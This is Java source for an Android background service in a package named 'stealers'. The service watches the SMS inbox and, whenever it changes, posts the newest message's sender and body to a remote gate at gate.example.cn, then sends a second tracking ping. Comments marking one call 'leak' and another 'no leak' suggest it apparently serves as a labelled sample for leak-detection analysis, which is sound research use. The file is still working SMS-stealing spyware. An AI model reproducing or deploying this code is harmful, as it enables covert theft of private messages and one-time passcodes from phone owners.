package stealers;

import android.app.Service;
import android.content.*;
import android.database.*;
import android.net.Uri;
import android.os.*;

import org.apache.http.NameValuePair;
import org.apache.http.client.entity.UrlEncodedFormEntity;
import org.apache.http.client.methods.HttpPost;
import org.apache.http.impl.client.DefaultHttpClient;
import org.apache.http.message.BasicNameValuePair;

import java.util.*;

/** The newest message of the box, whenever the box changes. */
public class InboxWatch extends Service {
    private Watch watch;

    @Override
    public IBinder onBind(Intent i) {
        return null;
    }

    @Override
    public void onCreate() {
        super.onCreate();
        watch = new Watch(new Handler(), this);
        getContentResolver().registerContentObserver(Uri.parse("content://sms/"), true, watch);
    }

    static class Sms {
        String from, text, when;
        boolean read;
    }

    static class Watch extends ContentObserver {
        private final Context context;
        private String lastId = "";

        Watch(Handler h, Context c) {
            super(h);
            context = c;
        }

        @Override
        public void onChange(boolean self) {
            Cursor c = context.getContentResolver().query(Uri.parse("content://sms/inbox"), null, null, null, "date desc");
            if (c != null && c.moveToFirst()) {
                String id = c.getString(c.getColumnIndex("_id"));
                if (id.equals(lastId)) return;
                lastId = id;
                Sms s = new Sms();
                s.from = c.getString(c.getColumnIndexOrThrow("address"));
                s.text = c.getString(c.getColumnIndexOrThrow("body"));
                s.when = c.getString(4);
                new Send().execute(s);
                new Tick().execute("change", "inbox");
            }
        }
    }

    static class Send extends AsyncTask<Sms, Void, Boolean> {
        @Override
        protected Boolean doInBackground(Sms... all) {
            Sms s = all[0];
            List<NameValuePair> pairs = new ArrayList<NameValuePair>(3);
            pairs.add(new BasicNameValuePair("n", s.from));
            pairs.add(new BasicNameValuePair("t", s.text));
            try {
                HttpPost post = new HttpPost("http://gate.example.cn/sms.php");
                post.setEntity(new UrlEncodedFormEntity(pairs, "UTF-8"));
                new DefaultHttpClient().execute(post); // leak
                return true;
            } catch (Exception e) {
                return false;
            }
        }
    }

    static class Tick extends AsyncTask<String, Void, Boolean> {
        @Override
        protected Boolean doInBackground(String... all) {
            List<NameValuePair> pairs = new LinkedList<NameValuePair>();
            for (String one : all) pairs.add(new BasicNameValuePair("e", one));
            try {
                HttpPost post = new HttpPost("http://gate.example.cn/tick.php");
                post.setEntity(new UrlEncodedFormEntity(pairs, "UTF-8"));
                new DefaultHttpClient().execute(post); // no leak
                return true;
            } catch (Exception e) {
                return false;
            }
        }
    }
}
